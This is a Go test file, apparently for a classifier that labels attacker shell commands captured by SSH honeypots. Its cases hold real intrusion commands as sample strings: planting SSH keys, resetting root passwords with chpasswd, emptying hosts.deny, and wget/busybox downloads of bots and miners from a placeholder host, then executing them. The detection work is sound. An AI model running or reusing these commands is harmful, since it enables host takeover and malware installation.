@@ -1,0 +1,174 @@
+package classify
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestCategoryAssignments(t *testing.T) {
+	c := New()
+	cases := []struct {
+		text string
+		want string
+	}{
+		// Section 9 campaign, both variants. Order matters: the variant
+		// must win when hosts.deny is touched.
+		{`cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys`, "mdrfckr"},
+		{`rm -rf /tmp/auth.sh; echo > /etc/hosts.deny; echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys`, "mdrfckr_variant"},
+		// mdrfckr with a long chpasswd line must still be mdrfckr, not
+		// root_17_char_pwd — rule precedence.
+		{`echo "root:Xy9Zq8Lm2Np4Rs6Tu"|chpasswd; echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys`, "mdrfckr"},
+
+		// Scouts.
+		{`echo -e "\x6F\x6B"`, "echo_ok"},
+		{`echo ok`, "echo_ok_txt"},
+		{`echo "SSH check works"`, "echo_ssh_check"},
+		{`echo 0a1b2c3d-1111-2222-3333-444455556666`, "echo_os_check"},
+		{`uname -a`, "uname_a"},
+		{`uname -s -v -n -r -m`, "uname_svnrm"},
+		{`uname -s -v -n -r`, "uname_svnr"},
+		{`uname -a; nproc`, "uname_a_nproc"},
+		{`uname -s -n -r -i; nproc`, "uname_snri_nproc"},
+
+		// busybox family.
+		{`/bin/busybox cat /proc/self/exe || cat /proc/self/exe`, "bbox_scout_cat"},
+		{`/bin/busybox ABCDE; cd /tmp; wget http://x/f; tftp -g -r f 1.2.3.4`, "bbox_5_char_v2"},
+		{`/bin/busybox KDVRN`, "bbox_5_char"},
+		{`busybox wget http://x/loader.wget; sh loader.wget`, "bbox_loaderwget"},
+		{`echo -ne "\x7f\x45\x4c\x46" > /tmp/.a`, "bbox_echo_elf"},
+		{`/bin/busybox LONGPROBE7`, "bbox_unlabelled"},
+		{`/bin/busybox X; chmod 777 bot; ./bot1234`, "bbox_rand_exec"},
+
+		// Named campaigns.
+		{`ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAC key`, "rapperbot"},
+		{`echo root:aB3dE5fG7hI9kL1mN|chpasswd`, "root_17_char_pwd"},
+		{`curl https://x/ -s --max-redirs 5`, "curl_maxred"},
+		{`echo lenni0451`, "lenni_0451"},
+		{`export VEI=1`, "export_vei"},
+		{`apt install clamav`, "clamav"},
+		{`wget -4 http://x/a; dget -4 http://x/a`, "dget_4"},
+		{`dget http://x/a`, "wget_dget"},
+		{`openssl passwd -1 abcd1234`, "openssl_passwd"},
+		{`echo $SHELL; dd bs=22 if=/proc/self/exe`, "shell_fp"},
+		{`perl dred.pl`, "perl_dred_miner"},
+		{`export LC_ALL=C; wget http://x/stx`, "stx_miner"},
+		{`sh ohshit.sh`, "ohshit_attack"},
+		{`wget http://x/onions1337.sh`, "onions_attack"},
+		{`wget http://x/sora.arm`, "sora_attack"},
+		{`echo Heisenberg`, "heisen_attack"},
+		{`run Zeus now`, "zeus_attack"},
+		{`sh update.sh`, "update_attack"},
+		{`echo -e "\x41\x4b\x34\x37"; echo writable`, "ak47_scout"},
+		{`echo "root:abcd12345678"|chpasswd; awk '{print $4, $5, $6, $7}'`, "root_12_char_capscout"},
+		{`echo "root:abcd12345678"|chpasswd; echo 321`, "root_12_char_echo321"},
+		{`wget http://1.2.3.4/juicessh.apk`, "juicessh"},
+		{`echo Password123 | passwd daemon`, "passwd123_daemon"},
+
+		// Generic loader combinations, most specific wins.
+		{`curl -O http://x/a; echo hi; ftpget h a a; wget http://x/b`, "gen_curl_echo_ftp_wget"},
+		{`curl -O http://x/a; wget http://x/b`, "gen_curl_wget"},
+		{`wget http://x/a; chmod +x a; ./a`, "gen_wget"},
+		{`curl http://x/a`, "gen_curl"},
+		{`echo hello`, "gen_echo"},
+		{`ftpget host local remote`, "gen_ftp"},
+
+		// Unknown.
+		{`systemctl status sshd`, Unknown},
+		{`ls -la; cd /opt; pwd`, Unknown},
+	}
+	for _, cse := range cases {
+		if got := c.Classify(cse.text); got != cse.want {
+			t.Errorf("Classify(%q) = %q, want %q", cse.text, got, cse.want)
+		}
+	}
+}
+
+func TestCategoryCountAndUniqueness(t *testing.T) {
+	c := New()
+	cats := c.Categories()
+	if n := c.NumCategories(); n != len(cats) {
+		t.Errorf("NumCategories = %d, Categories = %d", n, len(cats))
+	}
+	// The paper uses 59 (58 regex + unknown); we additionally cover the
+	// figure-only labels, so the table must be at least that large.
+	if len(cats) < 59 {
+		t.Errorf("categories = %d, want >= 59", len(cats))
+	}
+	seen := map[string]bool{}
+	for _, name := range cats {
+		if seen[name] {
+			t.Errorf("duplicate category %q", name)
+		}
+		seen[name] = true
+	}
+	if cats[len(cats)-1] != Unknown {
+		t.Error("last category must be unknown")
+	}
+}
+
+func TestGenericFlag(t *testing.T) {
+	c := New()
+	generics := 0
+	for _, r := range c.Rules() {
+		if r.Generic {
+			generics++
+			if !strings.HasPrefix(r.Name, "gen_") {
+				t.Errorf("generic rule %q should be gen_*", r.Name)
+			}
+		}
+	}
+	// The paper counts 14 generic file-introduction categories.
+	if generics != 14 {
+		t.Errorf("generic categories = %d, want 14", generics)
+	}
+	if !c.IsGeneric("gen_wget") || c.IsGeneric("mdrfckr") {
+		t.Error("IsGeneric misreports")
+	}
+}
+
+func TestFirstMatchWinsIsOrderStable(t *testing.T) {
+	c := New()
+	// A text matching several generic rules must always resolve to the
+	// most specific (earliest) one.
+	text := `curl http://x/a; echo hi; wget http://x/b`
+	for i := 0; i < 10; i++ {
+		if got := c.Classify(text); got != "gen_curl_echo_wget" {
+			t.Fatalf("iteration %d: %q", i, got)
+		}
+	}
+}
+
+func TestClassifierIsConcurrencySafe(t *testing.T) {
+	c := New()
+	done := make(chan bool)
+	for g := 0; g < 8; g++ {
+		go func() {
+			for i := 0; i < 200; i++ {
+				c.Classify(`uname -a; nproc`)
+			}
+			done <- true
+		}()
+	}
+	for g := 0; g < 8; g++ {
+		<-done
+	}
+}
+
+func BenchmarkClassifyScout(b *testing.B) {
+	c := New()
+	text := `echo -e "\x6F\x6B"`
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		c.Classify(text)
+	}
+}
+
+func BenchmarkClassifyUnknown(b *testing.B) {
+	c := New()
+	// Worst case: falls through every rule.
+	text := `ls -la /opt && ps aux && netstat -tlpn && cat /etc/passwd`
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		c.Classify(text)
+	}
+}
